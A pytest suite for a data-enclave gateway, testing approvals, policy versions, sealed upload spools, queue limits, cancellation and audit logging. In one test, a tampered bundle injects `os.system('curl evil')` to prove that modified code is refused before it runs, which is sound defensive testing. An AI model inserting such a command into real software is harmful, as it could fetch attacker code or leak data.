"""The gateway's control plane against an in-process site: decisions, bindings, queueing.

No network and no Docker: the site is the shipped :class:`enclave.fake.FakeSite`, its runs
reporting what a test scripts, so each test sees exactly what the gateway did with a
submission, an approval, a changed bundle or a full queue, and what it wrote to the audit log.
"""

from __future__ import annotations

import hashlib
import io
import tarfile
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import BinaryIO

import pytest
from cryptography.hazmat.primitives.asymmetric import ed25519

from enclave.audit import AuditLog
from enclave.contract import SiteReport, StoredDataset
from enclave.fake import FakeSite
from gateway._spool import SealedSpool
from gateway.core import Gateway
from gateway.store import Store
from policies.errors import (
    InvalidState,
    NotFound,
    PermissionDenied,
    PolicyDocumentError,
    ResourceExhausted,
    SpecError,
)
from policies.identity import Principal, Role
from policies.lifecycle import JobState
from tests.integration._deployment import policy

OLIVIA = Principal("olivia", Role.DATA_OWNER, "library")
OTTO = Principal("otto", Role.DATA_OWNER, "hospital")
THEO = Principal("theo", Role.MODEL_TEAM, "model-team")
MALLORY = Principal("mallory", Role.MODEL_TEAM, "other-team")

SPEC = """\
name: t
datasets: [books]
base_model: tiny-lm
trainer: {trainer}
{entry}purpose: testing
resources: {{cpus: 1, memory_mb: 1024, timeout_s: 60}}
"""


def spec(trainer: str = "causal-lm") -> str:
    entry = 'entrypoint: "m:M"\n' if trainer == "custom" else ""
    return SPEC.format(trainer=trainer, entry=entry)


class ScriptedSite(FakeSite):
    """The shipped fake site, noting what the gateway's home held while a dataset streamed in."""

    def __init__(self, tmp: Path) -> None:
        super().__init__(tmp, name="scripted")
        self.tmp = tmp
        self.home_files_during_store: dict[Path, bytes] = {}

    def store_dataset(self, name: str, *, archive: BinaryIO) -> StoredDataset:
        self.home_files_during_store = {
            p: p.read_bytes() for p in self.tmp.rglob("*") if p.is_file()
        }
        return super().store_dataset(name, archive=archive)


@pytest.fixture
def site(tmp_path: Path) -> ScriptedSite:
    return ScriptedSite(tmp_path)


def _gateway(tmp_path: Path, site: ScriptedSite, **kw: int) -> Gateway:
    home = tmp_path / "gw"
    home.mkdir()
    audit = AuditLog(home / "audit.db", signing_key=ed25519.Ed25519PrivateKey.generate())
    return Gateway(home=home, store=Store(home / "state.db"), audit=audit, site=site, **kw)


@pytest.fixture
def gw(tmp_path: Path, site: ScriptedSite) -> Iterator[Gateway]:
    g = _gateway(tmp_path, site)
    _register(g, tmp_path)
    yield g
    g.stop()
    g.audit.close()


def _register(
    g: Gateway, tmp_path: Path, *, custom_code: bool = False, mode: str = "manual"
) -> None:
    archive = tmp_path / "books.tar"
    with tarfile.open(archive, "w") as tar:
        info = tarfile.TarInfo("a.txt")
        info.size = 5
        tar.addfile(info, io.BytesIO(b"hello"))
    with SealedSpool(g.home) as spool:
        spool.write(archive.read_bytes())
        g.register_dataset(
            principal=OLIVIA, name="books", description="", archive=spool, archive_sha256=""
        )
    g.put_policy(
        principal=OLIVIA, dataset="books", text=policy("books", custom_code=custom_code, mode=mode)
    )


def _wait(g: Gateway, job_id: str, *, until: set[JobState] | None = None) -> JobState:
    until = until or {
        s
        for s in JobState
        if s.name in {"RELEASED", "REJECTED", "FAILED", "ERROR", "CANCELLED", "DENIED"}
    }
    for _ in range(200):
        state = g.store.job(job_id).state
        if state in until:
            return state
        threading.Event().wait(0.05)
    return g.store.job(job_id).state


def _actions(g: Gateway, job_id: str) -> list[str]:
    return [r.event.action for r in g.audit.query(job=job_id, limit=10_000)]


def test_an_approved_job_runs_and_its_release_is_kept(gw: Gateway, site: ScriptedSite) -> None:
    gw.start()
    job = gw.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
    assert job.state is JobState.PENDING_APPROVAL
    gw.decide(principal=OLIVIA, job_id=job.id, approve=True, reason="ok")
    assert _wait(gw, job.id) is JobState.RELEASED
    assert (gw.home / "releases" / job.id / "metrics.json").exists()
    done = gw.store.job(job.id)
    assert done.metrics == {"train_loss": 1.5} and done.image_id == site.image_id()
    order = site.orders[0]
    assert order.approvals == ("olivia",) and order.datasets == (("books", 1),)
    actions = _actions(gw, job.id)
    for expected in (
        "job.submit",
        "policy.decision",
        "job.approve",
        "container.start",
        "release.sign",
    ):
        assert expected in actions, actions


def test_only_an_owner_of_the_data_may_approve(gw: Gateway) -> None:
    job = gw.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
    with pytest.raises(PermissionDenied, match="owns none"):
        gw.decide(principal=OTTO, job_id=job.id, approve=True, reason="")
    gw.decide(principal=OLIVIA, job_id=job.id, approve=False, reason="no")
    assert gw.store.job(job.id).state is JobState.DENIED
    with pytest.raises(InvalidState, match="not waiting for approval"):
        gw.decide(principal=OLIVIA, job_id=job.id, approve=True, reason="")


def test_a_denial_keeps_every_reason(gw: Gateway) -> None:
    job = gw.submit(
        principal=MALLORY, spec_text=spec().replace("testing", "fun"), bundle=None, bundle_sha256=""
    )
    assert job.state is JobState.DENIED
    text = " ".join(job.reasons)
    assert "other-team" in text and "fun" in text


def test_a_bad_spec_leaves_no_job_and_no_job_record(gw: Gateway) -> None:
    before = gw.audit.size()
    with pytest.raises(SpecError, match="privileged"):
        gw.submit(
            principal=THEO, spec_text=spec() + "privileged: true\n", bundle=None, bundle_sha256=""
        )
    assert gw.store.jobs() == [] and gw.audit.size() == before
    assert list((gw.home / "bundles").iterdir()) == []


def test_a_bad_policy_leaves_the_current_version_in_force(gw: Gateway) -> None:
    with pytest.raises(PolicyDocumentError, match=r"release\.dtype"):
        gw.put_policy(
            principal=OLIVIA, dataset="books", text=policy("books").replace("bfloat16", "int4")
        )
    assert [p.version for p in gw.store.policies("books")] == [1]


def _bundle(path: Path, text: bytes) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        info = tarfile.TarInfo("m.py")
        info.size = len(text)
        tar.addfile(info, io.BytesIO(text))
    return path


def test_a_bundle_changed_after_approval_cannot_run(tmp_path: Path, site: ScriptedSite) -> None:
    g = _gateway(tmp_path, site)
    _register(g, tmp_path, custom_code=True)
    code = _bundle(tmp_path / "b.tar.gz", b"class M: pass\n")
    job = g.submit(principal=THEO, spec_text=spec("custom"), bundle=code, bundle_sha256="")
    g.decide(principal=OLIVIA, job_id=job.id, approve=True, reason="reviewed")
    assert g.store.job(job.id).state is JobState.QUEUED  # no worker yet
    stored = g.home / "bundles" / f"{job.bundle_sha256}.tar.gz"
    _bundle(stored, b"import os; os.system('curl evil')\nclass M: pass\n")
    g.start()
    try:
        assert _wait(g, job.id) is JobState.ERROR
        assert site.orders == []  # never reached the site
        assert "no longer applies" in " ".join(g.store.job(job.id).reasons)
        assert any(
            r.event.outcome == "denied" for r in g.audit.query(job=job.id, action="job.binding")
        )
    finally:
        g.stop()


def test_a_new_policy_version_sends_an_approved_job_back_for_approval(
    tmp_path: Path, site: ScriptedSite
) -> None:
    g = _gateway(tmp_path, site)
    _register(g, tmp_path)
    job = g.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
    g.decide(principal=OLIVIA, job_id=job.id, approve=True, reason="")
    assert g.store.job(job.id).state is JobState.QUEUED
    g.put_policy(
        principal=OLIVIA,
        dataset="books",
        text=policy("books").replace("max_memory_mb: 4096", "max_memory_mb: 2048"),
    )
    again = g.store.job(job.id)
    assert again.state is JobState.PENDING_APPROVAL and again.policy_versions == {"books": 2}
    g.put_policy(
        principal=OLIVIA,
        dataset="books",
        text=policy("books").replace("max_memory_mb: 4096", "max_memory_mb: 512"),
    )
    denied = g.store.job(job.id)
    assert denied.state is JobState.DENIED and "memory" in " ".join(denied.reasons)
    g.audit.close()


def test_a_policy_made_automatic_lets_waiting_jobs_run_and_keeps_approved_ones(
    tmp_path: Path, site: ScriptedSite
) -> None:
    g = _gateway(tmp_path, site)
    _register(g, tmp_path)  # manual approval
    waiting = g.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
    approved = g.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
    g.decide(principal=OLIVIA, job_id=approved.id, approve=True, reason="")
    assert g.store.job(waiting.id).state is JobState.PENDING_APPROVAL
    assert g.store.job(approved.id).state is JobState.QUEUED
    g.put_policy(principal=OLIVIA, dataset="books", text=policy("books", mode="automatic"))
    for job_id in (waiting.id, approved.id):
        again = g.store.job(job_id)
        assert again.state is JobState.QUEUED and again.policy_versions == {"books": 2}
    g.start()
    try:
        # Both run, under bindings to the new version: neither is stuck or refused at dispatch.
        assert _wait(g, waiting.id) is JobState.RELEASED
        assert _wait(g, approved.id) is JobState.RELEASED
        assert sorted(o.job_id for o in site.orders) == sorted([waiting.id, approved.id])
        assert all(o.policy_versions == {"books": 2} for o in site.orders)
    finally:
        g.stop()
        g.audit.close()


def test_an_expired_approval_cannot_run(
    tmp_path: Path, site: ScriptedSite, monkeypatch: pytest.MonkeyPatch
) -> None:
    import datetime as dt

    from gateway import core

    g = _gateway(tmp_path, site)
    _register(g, tmp_path)  # approvals valid for the default 168 hours
    job = g.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
    g.decide(principal=OLIVIA, job_id=job.id, approve=True, reason="")
    later = dt.datetime.now(dt.UTC) + dt.timedelta(hours=169)
    monkeypatch.setattr(core, "_now", lambda: later)
    g.start()
    try:
        assert _wait(g, job.id, until={JobState.ERROR}) is JobState.ERROR
        reasons = " ".join(g.store.job(job.id).reasons)
        assert "expired" in reasons
        assert site.orders == []  # nothing reached the site
        refusals = g.audit.query(job=job.id, action="job.binding")
        assert [r.event.outcome for r in refusals] == ["denied"]
    finally:
        g.stop()
        g.audit.close()


def test_an_uploaded_dataset_is_on_no_disk_in_the_clear(tmp_path: Path, site: ScriptedSite) -> None:
    """The archive arrives through the servicer's spool; while the site stores it, every file
    under the gateway's home is searched for the owner's text: none holds it."""
    from sealroom.v1 import gateway_pb2 as pb

    from gateway._servicer import _receive

    g = _gateway(tmp_path, site)
    marker = b"PATIENT-7731 diagnosis: confidential " * 64
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        info = tarfile.TarInfo("record.txt")
        info.size = len(marker)
        tar.addfile(info, io.BytesIO(marker))
    data = buf.getvalue()
    chunks = [
        pb.RegisterDatasetChunk(header=pb.RegisterDatasetHeader(name="records")),
        *(pb.RegisterDatasetChunk(data=data[i : i + 1000]) for i in range(0, len(data), 1000)),
    ]
    with SealedSpool(g.home) as spool:
        _receive(chunks, header_field="header", data_field="data", limit=1 << 20, into=spool)
        g.register_dataset(
            principal=OLIVIA,
            name="records",
            description="",
            archive=spool,
            archive_sha256=hashlib.sha256(data).hexdigest(),
        )
        spooled = spool.path
    assert site.archives == [data]  # the site got the plaintext stream, whole
    assert spooled in site.home_files_during_store  # the spool was on disk meanwhile ...
    for path, content in site.home_files_during_store.items():
        assert b"PATIENT-7731" not in content, path  # ... sealed, like everything else
    assert not spooled.exists()
    g.audit.close()


def test_uploads_over_the_cap_are_refused_and_leave_nothing(
    tmp_path: Path, site: ScriptedSite
) -> None:
    from sealroom.v1 import gateway_pb2 as pb

    from gateway._servicer import GatewayServicer

    home = tmp_path / "gw"
    home.mkdir()
    g = Gateway(
        home=home,
        store=Store(home / "state.db"),
        site=site,
        max_bundle_bytes=4096,
        audit=AuditLog(home / "audit.db", signing_key=ed25519.Ed25519PrivateKey.generate()),
    )
    servicer = GatewayServicer(g)
    before = sorted(p.name for p in home.iterdir())
    bundle = [
        pb.SubmitJobChunk(header=pb.SubmitJobHeader(spec=spec("custom"))),
        *(pb.SubmitJobChunk(bundle=b"x" * 1024) for _ in range(5)),
    ]
    with pytest.raises(ResourceExhausted, match="4096-byte limit"):
        servicer.SubmitJob(iter(bundle), None)  # type: ignore[arg-type]
    data = [
        pb.RegisterDatasetChunk(header=pb.RegisterDatasetHeader(name="books")),
        *(pb.RegisterDatasetChunk(data=b"y" * 8192) for _ in range(5)),
    ]
    with pytest.raises(ResourceExhausted, match="32768-byte limit"):
        servicer.RegisterDataset(iter(data), None)  # type: ignore[arg-type]
    assert g.store.jobs() == [] and site.archives == []
    assert sorted(p.name for p in home.iterdir()) == before  # no spool, no temp folder left
    g.audit.close()


def test_a_spool_changed_on_disk_is_refused(tmp_path: Path) -> None:
    from policies.errors import InvalidInput

    with SealedSpool(tmp_path) as spool:
        spool.write(b"x" * (3 << 20))
        spool.seal()
        raw = bytearray(spool.path.read_bytes())
        raw[100] ^= 1
        spool.path.write_bytes(raw)
        with pytest.raises(InvalidInput, match="changed on disk"), spool.reader() as r:
            r.read()
    with SealedSpool(tmp_path) as spool:  # cut off after the first block
        spool.write(b"y" * (3 << 20))
        spool.seal()
        spool.path.write_bytes(spool.path.read_bytes()[: (1 << 20) + 64])
        with pytest.raises(InvalidInput, match="changed on disk"), spool.reader() as r:
            r.read()
    with SealedSpool(tmp_path) as spool:
        spool.write(b"z" * (3 << 20) + b"end")
        with spool.reader() as r:
            assert r.read() == b"z" * (3 << 20) + b"end"


def test_no_job_is_lost_between_the_queue_and_its_state(tmp_path: Path, site: ScriptedSite) -> None:
    """Many clients against a two-slot queue, the worker running: every accepted job runs.
    (A worker that took a job's id before its QUEUED state was written skipped it for good.)"""
    g = _gateway(tmp_path, site, max_queued=2)
    _register(g, tmp_path, mode="automatic")
    transition = g._transition

    def slow_to_queue(job_id: str, new: JobState, **kw: object) -> object:
        if new is JobState.QUEUED:  # widen the window a worker could slip into
            threading.Event().wait(0.02)
        return transition(job_id, new, **kw)  # type: ignore[arg-type]

    g._transition = slow_to_queue  # type: ignore[method-assign]
    g.start()
    accepted: list[str] = []
    lock = threading.Lock()

    def client() -> None:
        for _ in range(10):
            while True:
                try:
                    job = g.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
                    break
                except ResourceExhausted:
                    threading.Event().wait(0.005)
            with lock:
                accepted.append(job.id)

    try:
        threads = [threading.Thread(target=client) for _ in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        deadline = threading.Event()
        threading.Timer(20, deadline.set).start()
        while not deadline.is_set() and any(
            g.store.job(j).state is not JobState.RELEASED for j in accepted
        ):
            deadline.wait(0.05)
        states = {j: g.store.job(j).state for j in accepted}
        assert len(accepted) == 40
        assert {j: s for j, s in states.items() if s is not JobState.RELEASED} == {}
        assert sorted(o.job_id for o in site.orders) == sorted(accepted)  # each ran once
    finally:
        g.stop()
        g.audit.close()


@pytest.mark.parametrize(
    ("hparams", "trainer", "field"),
    [
        ("{learning_rate: 7.0}", "causal-lm", "hyperparameters.learning_rate"),
        ("{lora_r: 0}", "causal-lm-lora", "hyperparameters.lora_r"),
        ("{max_step: 10}", "causal-lm", "hyperparameters.max_step"),
        ("{}", "causal-llm", "trainer"),
    ],
)
def test_a_bad_trainer_or_hyperparameter_is_refused_at_submission(
    gw: Gateway, site: ScriptedSite, hparams: str, trainer: str, field: str
) -> None:
    """Not after approval in the container: the team learns at once, naming the field, and
    nothing is left behind."""
    text = spec(trainer) + f"hyperparameters: {hparams}\n"
    with pytest.raises(SpecError) as err:
        gw.submit(principal=THEO, spec_text=text, bundle=None, bundle_sha256="")
    assert str(err.value).startswith(field), err.value
    assert gw.store.jobs() == [] and site.orders == []


def test_a_full_queue_refuses_new_submissions_and_loses_no_approved_job(
    tmp_path: Path, site: ScriptedSite
) -> None:
    g = _gateway(tmp_path, site, max_queued=2)
    _register(g, tmp_path, mode="automatic")
    site.gate.clear()  # the site holds every run until told
    jobs = [
        g.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="") for _ in range(2)
    ]
    assert all(j.state is JobState.QUEUED for j in jobs)
    with pytest.raises(ResourceExhausted, match="queue is full"):
        g.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
    assert len(g.store.jobs()) == 2  # the refused submission left nothing
    g.start()
    site.gate.set()
    try:
        assert all(_wait(g, j.id) is JobState.RELEASED for j in jobs)
        assert sorted(o.job_id for o in site.orders) == sorted(j.id for j in jobs)
    finally:
        g.stop()
        g.audit.close()


def test_cancel_reaches_a_running_job(gw: Gateway, site: ScriptedSite) -> None:
    site.gate.clear()
    site.script = lambda o: [
        SiteReport(o.job_id, state=JobState.RUNNING),
        SiteReport(o.job_id, state=JobState.CANCELLED, reason="cancelled"),
    ]
    gw.start()
    job = gw.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
    gw.decide(principal=OLIVIA, job_id=job.id, approve=True, reason="")
    for _ in range(100):
        if site.orders:
            break
        threading.Event().wait(0.05)
    with pytest.raises(NotFound):  # another team's job: not even confirmed to exist
        gw.cancel(principal=MALLORY, job_id=job.id, reason="")
    gw.cancel(principal=THEO, job_id=job.id, reason="changed my mind")
    assert job.id in site.cancelled
    site.gate.set()
    assert _wait(gw, job.id) is JobState.CANCELLED


def test_logs_stay_with_the_owner(gw: Gateway, site: ScriptedSite) -> None:
    job = gw.submit(principal=THEO, spec_text=spec(), bundle=None, bundle_sha256="")
    site.job_logs[job.id] = b"stdout of " + job.id.encode()
    assert gw.logs(principal=OLIVIA, job_id=job.id).startswith(b"stdout")
    with pytest.raises(PermissionDenied, match="log"):
        gw.logs(principal=THEO, job_id=job.id)
